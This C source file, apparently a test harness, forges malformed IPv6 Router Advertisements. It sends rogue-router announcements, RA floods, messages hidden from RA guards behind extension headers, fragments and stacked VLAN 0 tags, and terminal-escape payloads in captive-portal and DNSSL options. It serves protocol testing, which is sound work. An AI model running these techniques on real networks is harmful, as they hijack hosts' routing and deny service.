/* A hostile neighbour: Router Advertisements as no router should send them.
 *
 * usage: forge_ra INTERFACE FAULT      one message with that fault; see `faults` below
 *        forge_ra INTERFACE flood COUNT [RATE]
 *                                      COUNT right messages of one router, RATE a second
 *        forge_ra INTERFACE routers COUNT
 *                                      one right message each of COUNT routers
 *        forge_ra INTERFACE fragments SIZE
 *                                      one right message of about SIZE bytes, in fragments
 *        forge_ra INTERFACE hidden SIZE
 *                                      the same, where the first fragment has only an
 *                                      extension header: RFC 7113 section 2.2 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <net/if.h>

#include "net/packetsock.h"
#include "wire/ether.h"
#include "wire/icmp6.h"
#include "wire/ip6.h"
#include "wire/nd.h"
#include "wire/ndopt.h"

enum { FRAME_SIZE = 4096, BATCH = 32 };

struct forged {
	uint8_t bytes[FRAME_SIZE];
	struct wr w;
	struct ip6_header ip;
	struct nd_message message;
	uint8_t mac[6];
};

static void begin(struct forged *f)
{
	*f = (struct forged){
		.ip = {
			.next_header = IP6_ICMPV6,
			.hop_limit = 255,
			.source = {.s6_addr = {0xfe, 0x80, [14] = 0xba, 0xad}},
			.destination = {.s6_addr = {0xff, 2, [15] = 1}},
		},
		.message = {
			.type = ND_ROUTER_ADVERTISEMENT,
			.ra = {.hop_limit = 64, .lifetime_s = 1800},
		},
		.mac = {2, 0, 0, 0, 0xba, 0xad},
	};
	f->w = wr_into(f->bytes, sizeof(f->bytes));
}

/* The frame up to the options; the fields are as they are then. */
static void head(struct forged *f)
{
	static const uint8_t group[6] = {0x33, 0x33, 0, 0, 0, 1};

	ether_write(&f->w, group, f->mac, ETHER_TYPE_IP6);
	ip6_write(&f->w, &f->ip);
	nd_write(&f->w, &f->message);
}

static void put_mac(struct forged *f)
{
	ndopt_write_mac(&f->w, NDOPT_SOURCE_LLADDR, f->mac);
}

static void put_bytes(struct forged *f, const void *bytes, size_t len)
{
	wr_bytes(&f->w, bytes, len);
}

static void put_prefix(struct forged *f, uint8_t last)
{
	struct ndopt prefix = {.type = NDOPT_PREFIX, .form = NDOPT_FORM_PREFIX, .prefix = {
		.length = 64,
		.flags = NDOPT_PREFIX_ON_LINK | NDOPT_PREFIX_AUTONOMOUS,
		.valid_s = 86400,
		.preferred_s = 14400,
		.prefix = {.s6_addr = {0x20, 1, 0x0d, 0xb8, [7] = last}},
	}};

	ndopt_write(&f->w, &prefix);
}

static void seal(struct forged *f)
{
	nd_seal(&f->w, ETHER_HEADER_SIZE);
}

static void right(struct forged *f)
{
	head(f);
	put_mac(f);
	put_prefix(f, 1);
	seal(f);
}

static void hop_limit(struct forged *f)
{
	f->ip.hop_limit = 64;
	right(f);
}

static void global_source(struct forged *f)
{
	f->ip.source = (struct in6_addr){.s6_addr = {0x20, 1, 0x0d, 0xb8, [15] = 1}};
	right(f);
}

static void checksum(struct forged *f)
{
	right(f);
	wr_patch_u16(&f->w, ETHER_HEADER_SIZE + IP6_HEADER_SIZE + 2, 0x1234);
}

static void zero_length(struct forged *f)
{
	static const uint8_t zero[8] = {5, 0};

	head(f);
	put_prefix(f, 1);
	put_bytes(f, zero, sizeof(zero));
	seal(f);
}

static void rdnss_even(struct forged *f)
{
	static const uint8_t even[16] = {25, 2, 0, 0, 0, 0, 7, 8};

	head(f);
	put_bytes(f, even, sizeof(even));
	put_prefix(f, 1);
	seal(f);
}

static void controls(struct forged *f)
{
	static const char uri[] = "http://\x1b]0;owned\x07\r\n\x9b/";
	static const char names[] = "\10\x1b[2Jevil\3net";
	struct ndopt portal = {.type = NDOPT_CAPTIVE_PORTAL,
		.form = NDOPT_FORM_CAPTIVE_PORTAL,
		.captive_portal = rd_over(uri, sizeof(uri) - 1)};
	struct ndopt dnssl = {.type = NDOPT_DNSSL, .form = NDOPT_FORM_DNSSL, .dnssl = {
		.lifetime_s = 1800, .names = rd_over(names, sizeof(names))}};

	head(f);
	ndopt_write(&f->w, &portal);
	ndopt_write(&f->w, &dnssl);
	seal(f);
}

/* A Fragment header, and the message whole behind it. */
static void fragment(struct forged *f)
{
	struct forged whole;
	uint8_t header[8] = {IP6_ICMPV6, 0, 0, 1, 0, 0, 0, 7};
	struct rd r;
	size_t len;

	begin(&whole);
	right(&whole);
	r = rd_over(whole.bytes, wr_len(&whole.w));
	rd_skip(&r, ETHER_HEADER_SIZE + IP6_HEADER_SIZE);
	len = rd_left(&r);
	f->ip.next_header = IP6_FRAGMENT;
	f->ip.payload_length = (uint16_t)(len + sizeof(header));
	ether_write(&f->w, (const uint8_t[]){0x33, 0x33, 0, 0, 0, 1}, f->mac, ETHER_TYPE_IP6);
	ip6_write(&f->w, &f->ip);
	put_bytes(f, header, sizeof(header));
	put_bytes(f, rd_bytes(&r, len), len);
}

/* Behind this many Destination Options headers, where RA guards have been known not to look. */
static void behind(struct forged *f, unsigned count)
{
	struct forged whole;
	struct rd r;
	size_t len;

	begin(&whole);
	right(&whole);
	r = rd_over(whole.bytes, wr_len(&whole.w));
	rd_skip(&r, ETHER_HEADER_SIZE + IP6_HEADER_SIZE);
	len = rd_left(&r);
	f->ip.next_header = IP6_DESTINATION;
	f->ip.payload_length = (uint16_t)(len + 8 * count);
	ether_write(&f->w, (const uint8_t[]){0x33, 0x33, 0, 0, 0, 1}, f->mac, ETHER_TYPE_IP6);
	ip6_write(&f->w, &f->ip);
	for (; count > 0; count--)
		put_bytes(f, (const uint8_t[]){count > 1 ? IP6_DESTINATION : IP6_ICMPV6, 0, 1, 4,
			0, 0, 0, 0}, 8);
	put_bytes(f, rd_bytes(&r, len), len);
}

static void extension(struct forged *f)
{
	behind(f, 1);
}

static void extensions(struct forged *f)
{
	behind(f, 100);
}

/* With this many tags of 802.1Q, of which the kernel takes the first off the frame. */
static void tagged(struct forged *f, uint16_t tci, unsigned count)
{
	struct forged whole;
	struct rd r;
	size_t len;

	begin(&whole);
	right(&whole);
	r = rd_over(whole.bytes, wr_len(&whole.w));
	rd_skip(&r, 12);
	len = rd_left(&r);
	put_bytes(f, whole.bytes, 12);
	for (; count > 0; count--) {
		wr_u16(&f->w, ETHER_TYPE_8021Q);
		wr_u16(&f->w, tci);
	}
	put_bytes(f, rd_bytes(&r, len), len);
}

/* VLAN 5, priority 3. */
static void vlan(struct forged *f)
{
	tagged(f, 3 << 13 | 5, 1);
}

/* VLAN 0 is no VLAN: hosts take off any number of such tags, RA guards the first. */
static void tags(struct forged *f)
{
	tagged(f, 0, 20);
}

/* A router that is wrong in nothing but that it is here, and disagrees. */
static void rogue(struct forged *f)
{
	f->message.ra.hop_limit = 1;
	f->message.ra.flags = ND_RA_MANAGED | 0x08;
	head(f);
	put_mac(f);
	put_prefix(f, 0xbd);
	seal(f);
}

static const struct {
	const char *name;
	void (*make)(struct forged *f);
} faults[] = {
	{"right", right},
	{"hop-limit", hop_limit},
	{"global-source", global_source},
	{"checksum", checksum},
	{"zero-length", zero_length},
	{"rdnss-even", rdnss_even},
	{"controls", controls},
	{"fragment", fragment},
	{"extension", extension},
	{"extensions", extensions},
	{"vlan", vlan},
	{"tags", tags},
	{"rogue", rogue},
};

static int send_one(struct packet_sock *sock, const char *fault)
{
	static struct forged f;

	for (size_t i = 0; i < sizeof(faults) / sizeof(faults[0]); i++) {
		if (strcmp(fault, faults[i].name))
			continue;
		begin(&f);
		faults[i].make(&f);
		return f.w.failed || packet_send(sock, f.bytes, wr_len(&f.w));
	}
	fprintf(stderr, "forge_ra: no fault is named %s\n", fault);
	return 2;
}

/* Sends `count` messages, of one router or as many, `rate` a second; 0: as fast as it
 * goes. */
static int send_many(
	struct packet_sock *sock, unsigned long count, unsigned long rate, bool routers)
{
	static struct forged made[BATCH];
	struct packet_frame frames[BATCH];
	struct timespec start, now;

	clock_gettime(CLOCK_MONOTONIC, &start);
	for (unsigned long sent = 0; sent < count;) {
		size_t batch = count - sent < BATCH ? count - sent : BATCH, done = 0;

		for (size_t i = 0; i < batch; i++) {
			unsigned long n = routers ? sent + i : 1;

			begin(&made[i]);
			made[i].ip.source.s6_addr[13] = (uint8_t)(n >> 16);
			made[i].ip.source.s6_addr[14] = (uint8_t)(n >> 8);
			made[i].ip.source.s6_addr[15] = (uint8_t)n;
			right(&made[i]);
			frames[i] = (struct packet_frame){made[i].bytes, wr_len(&made[i].w)};
		}
		while (done < batch) {
			int left = packet_send_batch(sock, frames + done, batch - done);

			if (left < 0 && left != -EAGAIN && left != -ENOBUFS)
				return 1;
			done += left > 0 ? (size_t)left : 0;
		}
		sent += batch;
		do
			clock_gettime(CLOCK_MONOTONIC, &now);
		while (rate && (double)(now.tv_sec - start.tv_sec) +
				(double)(now.tv_nsec - start.tv_nsec) / 1e9 <
			(double)sent / (double)rate);
	}
	return 0;
}

/* Part of a packet, from its Fragment header on. */
static int send_fragment(struct packet_sock *sock, struct forged *f, uint8_t protocol,
	struct rd *rest, size_t at, size_t size)
{
	size_t left = rd_left(rest), len = left < size ? left : size;

	f->w = wr_into(f->bytes, sizeof(f->bytes));
	f->ip.next_header = IP6_FRAGMENT;
	f->ip.payload_length = (uint16_t)(8 + len);
	ether_write(&f->w, (const uint8_t[]){0x33, 0x33, 0, 0, 0, 1}, f->mac, ETHER_TYPE_IP6);
	ip6_write(&f->w, &f->ip);
	wr_u8(&f->w, protocol);
	wr_u8(&f->w, 0);
	wr_u16(&f->w, (uint16_t)(at | (len < left)));
	wr_u32(&f->w, 7);
	wr_bytes(&f->w, rd_bytes(rest, len), len);
	return f->w.failed || packet_send(sock, f->bytes, wr_len(&f->w));
}

static int send_fragments(struct packet_sock *sock, size_t size, bool hidden)
{
	static const uint8_t extension[8] = {IP6_ICMPV6, 0, 1, 4};
	static uint8_t whole[1 << 17];
	static struct forged f;
	struct wr w = wr_into(whole, sizeof(whole));
	struct rd rest;
	size_t at = 0, len;

	begin(&f);
	ip6_write(&w, &f.ip);
	nd_write(&w, &f.message);
	while (wr_len(&w) - IP6_HEADER_SIZE < size) {
		f.w = wr_into(f.bytes, sizeof(f.bytes));
		put_prefix(&f, (uint8_t)(wr_len(&w) / 32));
		wr_bytes(&w, f.bytes, wr_len(&f.w));
	}
	nd_seal(&w, 0);
	if (w.failed)
		return 2;
	/* The header of IPv6 gives way to the extension header. */
	memcpy(whole + IP6_HEADER_SIZE - sizeof(extension), extension, sizeof(extension));
	len = wr_len(&w) - IP6_HEADER_SIZE + (hidden ? sizeof(extension) : 0);
	rest = rd_over(whole + wr_len(&w) - len, len);
	for (size_t part = hidden ? sizeof(extension) : 1440; rd_left(&rest) > 0; part = 1440) {
		if (send_fragment(sock, &f, hidden ? IP6_DESTINATION : IP6_ICMPV6, &rest, at,
			    part))
			return 1;
		at += part;
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct packet_settings settings = {.types = 0};
	struct packet_sock sock;
	unsigned long count;

	if (argc < 3) {
		fprintf(stderr, "usage: forge_ra INTERFACE FAULT|flood N [RATE]|routers N|"
				"fragments SIZE|hidden SIZE\n");
		return 2;
	}
	settings.ifindex = if_nametoindex(argv[1]);
	if (packet_open(&sock) || packet_bind(&sock, &settings)) {
		fprintf(stderr, "forge_ra: %s: cannot be sent on\n", argv[1]);
		return 2;
	}
	if (argc == 3)
		return send_one(&sock, argv[2]);
	count = strtoul(argv[3], NULL, 10);
	if (!strcmp(argv[2], "fragments") || !strcmp(argv[2], "hidden"))
		return send_fragments(&sock, count, *argv[2] == 'h');
	return send_many(&sock, count, argc > 4 ? strtoul(argv[4], NULL, 10) : 0,
		*argv[2] == 'r');
}
